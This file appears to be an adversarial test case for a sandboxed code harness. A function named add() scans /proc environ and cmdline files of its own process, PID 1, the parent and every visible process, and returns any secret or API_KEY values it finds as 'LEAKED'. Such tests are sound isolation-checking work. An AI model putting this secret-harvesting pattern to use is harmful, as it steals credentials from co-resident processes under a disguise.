# attempts: read secrets from /proc: our own, PID 1's, the parent's and every visible process's
#   environ
# task: adv/add
# accept: failed error
import os

NAME = b"{SECRET_NAME}"


def add(a, b):
    found, seen = [], 0
    pids = ["self", "1", str(os.getppid())]
    try:
        pids += [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    for pid in pids:
        for leaf in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{leaf}", "rb") as fh:
                    data = fh.read()
            except OSError:
                continue
            seen += 1
            for item in data.split(b"\0"):
                if item.startswith(NAME + b"=") or b"API_KEY=" in item:
                    found.append(item.decode(errors="replace"))
    return ("LEAKED: " + "; ".join(found)) if found else f"read {seen} proc files"
